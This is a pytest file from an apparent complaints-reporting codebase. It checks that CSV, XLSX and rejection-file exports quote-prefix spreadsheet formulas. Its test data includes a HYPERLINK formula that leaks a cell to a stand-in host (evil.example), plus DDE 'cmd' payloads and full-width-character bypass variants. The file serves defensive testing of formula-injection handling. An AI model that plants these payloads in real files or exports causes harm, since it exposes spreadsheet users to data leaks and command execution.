"""No export a person opens in a spreadsheet runs a complaint's text as a formula."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from redress.importers.cfpb import Rejection, Report, write_rejections
from redress.platform.spreadsheets import cell, runs_as_formula
from redress.reporting.v1 import reporting_pb2
from services.reporting.exports import export_chunks
from services.reporting.render import Result, render
from services.reporting.store import Row

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
PAYLOADS = [
    HYPERLINK,
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
    "\uff0b1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
]
HARMLESS = ["Credit card", "", "-12.5", "+44", "1e5", "C-000042", "a=b", "mortgage - fees"]


@pytest.mark.parametrize("text", PAYLOADS)
def test_text_a_spreadsheet_would_run_is_quoted(text):
    assert runs_as_formula(text)
    assert cell(text) == "'" + text


@pytest.mark.parametrize("value", [*HARMLESS, -12.5, 0, -3, None])
def test_plain_text_and_numbers_are_left_alone(value):
    assert cell(value) == value


def _row(product: str) -> Row:
    return Row(
        case_id="C-1",
        received_at=datetime(2027, 3, 5, 9, 0, tzinfo=UTC),
        resolved_at=None,
        closed_at=None,
        product=product,
        sub_product="@SUM(1)",
        issue="-1+1",
        channel="web",
        priority="normal",
        regime="au_asic",
        team="",
        assignee="",
        stage="received",
        escalation_level=0,
    )


def _export(fmt: int) -> bytes:
    return b"".join(chunk for chunk, _ in export_chunks(iter([_row(HYPERLINK)]), fmt))


def test_csv_exports_carry_formulas_as_text_and_jsonl_carries_them_raw():
    (plain,) = csv.DictReader(io.StringIO(_export(reporting_pb2.EXPORT_FORMAT_CSV).decode()))
    assert plain["product"] == "'" + HYPERLINK
    assert plain["sub_product"] == "'@SUM(1)"
    assert plain["issue"] == "'-1+1"
    assert plain["escalation_level"] == "0"
    (asic,) = csv.DictReader(
        io.StringIO(_export(reporting_pb2.EXPORT_FORMAT_ASIC_IDR_CSV).decode())
    )
    assert asic["product"] == "'" + HYPERLINK
    assert asic["issue"] == "'-1+1"
    (line,) = _export(reporting_pb2.EXPORT_FORMAT_JSONL).decode().splitlines()
    assert json.loads(line)["product"] == HYPERLINK


RESULT = Result(
    title="Volume by product",
    period=(None, None),
    columns=["product", "complaints", "change"],
    rows=[[HYPERLINK, 3, -12.5], ["Credit card", 1, 2.0]],
)


def test_a_saved_reports_csv_and_xlsx_hold_no_formula_and_keep_numbers():
    now = datetime(2027, 3, 5, 9, 0, tzinfo=UTC)
    rows = list(
        csv.reader(io.StringIO(render(RESULT, reporting_pb2.RENDER_FORMAT_CSV, now).decode()))
    )
    assert rows[1] == ["'" + HYPERLINK, "3", "-12.5"]

    book = load_workbook(io.BytesIO(render(RESULT, reporting_pb2.RENDER_FORMAT_XLSX, now)))
    sheet = book.active
    assert sheet is not None
    cells = [c for line in sheet.iter_rows() for c in line]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    text = next(c for c in cells if c.value == HYPERLINK)
    assert text.data_type == "s" and text.quotePrefix
    numbers = [c.value for c in cells if c.data_type == "n" and c.value is not None]
    assert -12.5 in numbers and 3 in numbers

    as_json = json.loads(render(RESULT, reporting_pb2.RENDER_FORMAT_JSON, now))
    assert as_json["rows"][0] == [HYPERLINK, 3, -12.5]


def test_the_importers_rejections_file_holds_no_formula(tmp_path: Path):
    report = Report(rejected=[Rejection(7, HYPERLINK, ["=cmd|' /C calc'!A0 is not a product"])])
    write_rejections(report, tmp_path / "rejected.csv")
    rows = list(csv.reader((tmp_path / "rejected.csv").open(encoding="utf-8")))
    assert rows[1] == ["7", "'" + HYPERLINK, "'=cmd|' /C calc'!A0 is not a product"]
